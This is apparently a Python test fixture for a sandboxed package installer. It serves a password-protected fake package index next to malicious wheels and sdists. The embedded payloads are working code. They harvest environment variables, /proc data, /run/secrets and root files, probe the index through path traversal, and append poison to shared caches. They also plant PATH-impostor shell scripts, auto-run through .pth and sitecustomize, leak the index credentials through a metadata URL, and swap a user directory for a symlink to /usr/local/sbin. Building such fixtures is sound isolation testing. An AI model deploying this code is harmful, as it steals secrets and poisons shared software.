"""A package index with a password, and packages and a repository that look for it and try to write into what others share."""

from __future__ import annotations

import base64
import io
import tarfile
import zipfile
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

from tests.serving import bridge

LOGIN, PASSWORD = "ada", "canary-s3cret"

#: What hostile code does wherever it runs: look for the password, and write where others would read.
SPY = """
import glob, os

def ask_for_more(seen):
    import re, urllib.request
    for name in ("UV_INDEX", "UV_DEFAULT_INDEX"):
        for address in re.findall(r"http://127[^ ]*/", os.environ.get(name, "")):
            for path in ("../api/secret", "simple/../../api/secret", "simple/..%2f..%2fapi/secret"):
                try:
                    seen.append(urllib.request.urlopen(address + path, timeout=5).read().decode())
                except Exception as error:
                    seen.append(f"refused: {error}")

def spy(where):
    seen = [repr(dict(os.environ))]
    ask_for_more(seen)
    for path in [*glob.glob("/run/secrets/*"), *glob.glob("/dev/shm/**", recursive=True), *glob.glob("/proc/[0-9]*/environ"),
                 *glob.glob("/proc/[0-9]*/cmdline"), *glob.glob("/root/**", recursive=True), "/tmp/requirements/requirements.txt"]:
        try:
            with open(path, "rb") as file:
                seen.append(file.read().decode(errors="replace"))
        except OSError:
            pass
    for top in ("/var/cache/uv", "/var/cache/conda", "/var/cache/apt", "/var/lib/apt/lists", "/srv/jupyter", "/usr/local/bin", "/opt/r2i"):
        try:
            for directory, _, files in os.walk(top):
                for name in files:
                    if name.endswith(".py"):
                        with open(os.path.join(directory, name), "a") as file:
                            file.write("\\nPOISONED = True\\n")
                        seen.append("WROTE " + name)
            with open(os.path.join(top, "planted"), "w") as file:
                file.write("POISONED")
            seen.append("WROTE " + top)
        except OSError:
            pass
    directory = "/srv/env/loot" if os.access("/srv/env", os.W_OK) else "/tmp/loot"
    os.makedirs(directory, exist_ok=True)
    with open(f"{directory}/{where}-{os.getuid()}-{os.getpid()}", "w") as file:
        file.write("\\n".join(seen))

"""


#: Programs that root's shells call: who brings one of that name hopes that the path finds it first.
PROGRAMS = ("cat", "chmod", "chown", "cp", "find", "install", "mkdir", "sed", "setpriv", "sh", "uv")

#: Such a program: says as whom it ran and what it could read, and does what it should.
IMPOSTOR = """\
#!/bin/sh
/bin/mkdir -p /srv/env/loot 2>/dev/null
{{ set; /bin/cat /run/secrets/*; }} > /srv/env/loot/program_{name}-$(/usr/bin/id -u)-$$ 2>&1
for place in /bin/{name} /usr/bin/{name} /usr/local/bin/{name}; do [ ! -x $place ] || exec $place "$@"; done
"""


def impostors(info: str) -> dict[str, str]:
    return {f"{info}.data/scripts/{name}": IMPOSTOR.format(name=name) for name in PROGRAMS}


def wheel(name: str, files: Mapping[str, str] | None = None, *, metadata: str = "") -> bytes:
    """A wheel of version 1.0; `files` lie beside its module."""
    info = f"{name}-1.0.dist-info"
    texts = {
        f"{name}.py": "ANSWER = 42\n",
        **(files or {}),
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n{metadata}",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    texts[f"{info}/RECORD"] = "".join(f"{path},,\n" for path in (*texts, f"{info}/RECORD"))
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        for path, text in texts.items():
            file.writestr(path, text)
    return archive.getvalue()


def setup_py(name: str) -> str:
    """A `setup.py` that spies when it runs."""
    return f'{SPY}spy("{name}")\nfrom setuptools import setup\nsetup(name="{name}", version="1.0", py_modules=["{name}"])\n'


#: A `setup.py` that puts a link to a directory of root in the place of one that the user has.
LINKS = """
import os
from setuptools import setup

if not os.path.islink("/home/jovyan/work"):
    os.rmdir("/home/jovyan/work")
    os.symlink("/usr/local/sbin", "/home/jovyan/work")
setup(name="evil_links", version="1.0", py_modules=["evil_links"])
"""


def sdist(name: str, script: str = "") -> bytes:
    texts = {
        "setup.py": script or setup_py(name),
        f"{name}.py": "ANSWER = 42\n",
        "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
    }
    archive = io.BytesIO()
    with tarfile.open(fileobj=archive, mode="w:gz") as file:
        for path, text in texts.items():
            entry = tarfile.TarInfo(f"{name}-1.0/{path}")
            entry.size = len(text.encode())
            file.addfile(entry, io.BytesIO(text.encode()))
    return archive.getvalue()


def with_address(archive: bytes, address: str) -> bytes:
    """A wheel whose metadata names where it comes from."""
    if not archive.startswith(b"PK"):
        return archive
    result = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(archive)) as old, zipfile.ZipFile(result, "w") as new:
        for name in old.namelist():
            new.writestr(name, old.read(name).replace(b"ADDRESS", address.encode()))
    return result.getvalue()


#: By the name of the file. What begins with `corp` is for those who know the password.
FILES = {
    "corp_wheel-1.0-py3-none-any.whl": wheel("corp_wheel"),
    "corp_sdist-1.0.tar.gz": sdist("corp_sdist"),
    "evil_wheel-1.0-py3-none-any.whl": wheel(
        "evil_wheel",
        {
            "evil_wheel_spy.py": f'{SPY}spy("startup")\n',
            "evil.pth": "import evil_wheel_spy\n",
            "sitecustomize.py": f'{SPY}spy("sitecustomize")\n',
            **impostors("evil_wheel-1.0"),
        },
    ),
    # uv puts variables into the addresses that the metadata of a wheel names.
    "evil_asks-1.0-py3-none-any.whl": wheel(
        "evil_asks",
        metadata="Requires-Dist: evil-leak @ ADDRESS/files/evil_leak-1.0-py3-none-any.whl?q=${UV_INDEX}\n",
    ),
    "evil_leak-1.0-py3-none-any.whl": wheel("evil_leak"),
    "evil_sdist-1.0.tar.gz": sdist("evil_sdist"),
    "evil_links-1.0.tar.gz": sdist("evil_links", LINKS),
    "evil_both-1.0-py3-none-any.whl": wheel("evil_both"),
    "evil_both-1.0.tar.gz": sdist("evil_both"),
}


@dataclass
class Index:
    """`address` has no credentials; `heard` are the `Authorization` headers that came, by path."""

    address: str
    heard: list[tuple[str, str]] = field(default_factory=list)

    @property
    def with_login(self) -> str:
        return self.address.replace("//", f"//{LOGIN}:{PASSWORD}@")


class _Server(ThreadingHTTPServer):
    daemon_threads = True

    def handle_error(self, request: object, client_address: object) -> None:
        """Clients may hang up."""


@contextmanager
def index(*, private: bool) -> Iterator[Index]:
    """Serve the packages on the engine's bridge: all that `private` says, and nothing to who does not know the password."""
    prefix = "corp" if private else "evil"
    known = base64.b64encode(f"{LOGIN}:{PASSWORD}".encode()).decode()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            given = self.headers.get("Authorization") or ""
            found.heard.append((self.path, given))
            if private and given != f"Basic {known}":
                self._answer(401, b"")
                return
            parts = self.path.partition("?")[0].strip("/").split("/")
            if parts[0] == "files" and parts[-1] in FILES and parts[-1].startswith(prefix):
                top = found.address.removesuffix("/simple")
                self._answer(200, with_address(FILES[parts[-1]], top), "application/octet-stream")
            elif parts[0] == "simple" and len(parts) == 2:
                name = parts[1].replace("-", "_")
                files = [
                    file
                    for file in FILES
                    if file.startswith((f"{name}-", f"{name}.")) and name.startswith(prefix)
                ]
                links = "".join(f'<a href="/files/{file}">{file}</a>' for file in files)
                self._answer(200 if files else 404, f"<html><body>{links}</body></html>".encode())
            elif parts == ["api", "secret"]:
                self._answer(200, b"SECRET OF ANOTHER PAGE")
            else:
                self._answer(404, b"")

        do_HEAD = do_GET  # noqa: N815 - of the library

        def _answer(self, status: int, body: bytes, kind: str = "text/html") -> None:
            self.send_response(status)
            if status == 401:
                self.send_header("WWW-Authenticate", "Basic")
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            if self.command == "GET":
                self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - of the library
            pass

    with _Server((bridge(), 0), Handler) as server:
        found = Index(address=f"http://{server.server_address[0]!s}:{server.server_port}/simple")
        Thread(target=server.serve_forever, daemon=True).start()
        try:
            yield found
        finally:
            server.shutdown()
